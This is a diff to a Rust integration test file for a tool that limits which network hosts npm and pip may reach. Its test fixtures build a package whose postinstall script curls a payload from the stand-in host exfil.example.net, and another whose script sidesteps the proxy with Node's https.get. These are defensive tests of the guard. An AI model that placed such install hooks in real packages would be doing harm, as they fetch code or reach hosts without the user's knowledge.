@@ -166,6 +166,31 @@ fn npm_args<'a>(cache: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
     args
 }
 
+/// A local package `NAME-1.0.0.tgz` with `scripts` (the JSON members of
+/// its `scripts` object) and `files` beside its package.json.
+fn npm_tarball(c: &Client, name: &str, scripts: &str, files: &[(&str, &str)]) -> PathBuf {
+    let pkg = c.dir(&format!("{name}/package"));
+    fs::write(
+        pkg.join("package.json"),
+        format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{{{scripts}}}}}"#),
+    )
+    .unwrap();
+    for (file, text) in files {
+        fs::write(pkg.join(file), text).unwrap();
+    }
+    let tarball = c.tmp.path().join(format!("{name}-1.0.0.tgz"));
+    let tar = command(require("tar"))
+        .arg("czf")
+        .arg(&tarball)
+        .arg("-C")
+        .arg(c.tmp.path().join(name))
+        .arg("package")
+        .status()
+        .unwrap();
+    assert!(tar.success());
+    tarball
+}
+
 #[test]
 #[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
 fn npm_install_reaches_only_the_npm_registry() {
@@ -199,23 +224,12 @@ fn npm_postinstall_that_curls_an_unlisted_host_is_denied() {
     need("curl");
     let c = Client::new();
     // A local package whose postinstall fetches a payload: the case the gate exists for.
-    let pkg = c.dir("evil/package");
-    fs::write(
-        pkg.join("package.json"),
-        r#"{"name":"evil-postinstall","version":"1.0.0",
-            "scripts":{"postinstall":"curl -sS --fail -o /dev/null https://exfil.example.net/payload"}}"#,
-    )
-    .unwrap();
-    let tarball = c.tmp.path().join("evil-postinstall-1.0.0.tgz");
-    let tar = command(require("tar"))
-        .arg("czf")
-        .arg(&tarball)
-        .arg("-C")
-        .arg(c.tmp.path().join("evil"))
-        .arg("package")
-        .status()
-        .unwrap();
-    assert!(tar.success());
+    let tarball = npm_tarball(
+        &c,
+        "evil-postinstall",
+        r#""postinstall":"curl -sS --fail -o /dev/null https://exfil.example.net/payload""#,
+        &[],
+    );
     let proj = npm_project(&c);
     let cache = c.dir("npm-cache");
     let mut cmd = c.cmd(
@@ -289,6 +303,93 @@ fn npm_against_a_plaintext_registry_gets_405_and_no_downgrade() {
         assert_eq!(row["port"], 80, "{row}");
         assert_ne!(row["method"], "CONNECT", "{row}");
     }
+}
+
+/// npm through its shim in strict mode, as a user gets it (the default).
+fn strict_npm(c: &Client, proj: &Path, args: &[&str]) -> Outcome {
+    let cache = c.dir("npm-cache");
+    let mut cmd = c.cmd("npm", &npm_args(cache.to_str().unwrap(), args));
+    cmd.current_dir(proj).env_remove("CLI_GUARD_STRICT");
+    c.run(cmd)
+}
+
+#[test]
+#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
+fn npm_install_in_strict_mode_is_isolated_and_reaches_only_the_npm_registry() {
+    need("npm");
+    let c = Client::new();
+    let proj = npm_project(&c);
+    let out = strict_npm(&c, &proj, &["install", "is-number"]);
+    check_eq!(out, out.code(), Some(0), "npm install failed in strict mode");
+    assert!(
+        proj.join("node_modules/is-number/package.json").exists(),
+        "is-number was not installed"
+    );
+    let recs = c.records();
+    let start = only_start(&recs, "npm");
+    assert_eq!(start["isolation"], "netns", "{start}");
+    let (_, egress, end) = invocation(&recs, "npm");
+    assert!(!egress.is_empty(), "no egress rows\n{}", dump(&recs));
+    for row in &egress {
+        assert_eq!(row["host"], "registry.npmjs.org", "{}", dump(&recs));
+        assert_eq!(row["decision"], "allow", "{row}");
+    }
+    assert_eq!(end["exit_code"], 0, "{end}");
+    assert_eq!(end["denied"], 0, "{end}");
+}
+
+#[test]
+#[ignore = "real clients and the registries: run by .ci/run (cargo test -- --ignored)"]
+fn npm_postinstall_with_node_https_get_cannot_reach_pypi_in_strict_mode() {
+    need("npm");
+    need("node");
+    let c = Client::new();
+    // Node's own https.get ignores HTTPS_PROXY (without NODE_USE_ENV_PROXY,
+    // which a newer Node obeys): the escape strict mode exists for.
+    let tarball = npm_tarball(
+        &c,
+        "escape-postinstall",
+        r#""postinstall":"env -u NODE_USE_ENV_PROXY node postinstall.js""#,
+        &[(
+            "postinstall.js",
+            r#"require("https").get("https://pypi.org/", (r) => { console.log("reached pypi.org", r.statusCode); process.exit(0); })
+  .on("error", (e) => { console.error("refused", e.code); process.exit(1); });
+"#,
+        )],
+    );
+    let proj = npm_project(&c);
+    let out = strict_npm(
+        &c,
+        &proj,
+        &["install", "--foreground-scripts", tarball.to_str().unwrap()],
+    );
+    check!(
+        out,
+        out.code().is_some_and(|code| code != 0),
+        "the install must fail when its postinstall cannot reach pypi.org"
+    );
+    check!(
+        out,
+        !out.stdout().contains("reached pypi.org"),
+        "the postinstall reached pypi.org"
+    );
+    let recs = c.records();
+    let start = only_start(&recs, "npm");
+    assert_eq!(start["isolation"], "netns", "{start}");
+    let (id, egress, _) = invocation(&recs, "npm");
+    let pypi: Vec<&&Value> = egress.iter().filter(|r| r["host"] == "pypi.org").collect();
+    check!(out, !pypi.is_empty(), "no row for pypi.org under npm's audit id");
+    for row in &pypi {
+        assert_eq!(row["decision"], "deny", "{row}");
+        assert_eq!(row["method"], "dns", "{row}");
+    }
+    check!(
+        out,
+        out.guard_lines()
+            .iter()
+            .any(|l| l.contains("reach pypi.org directly") && l.contains(&id)),
+        "the stderr summary names pypi.org and the audit id"
+    );
 }
 
 /// pip, without this machine's local wheel cache or index overrides.
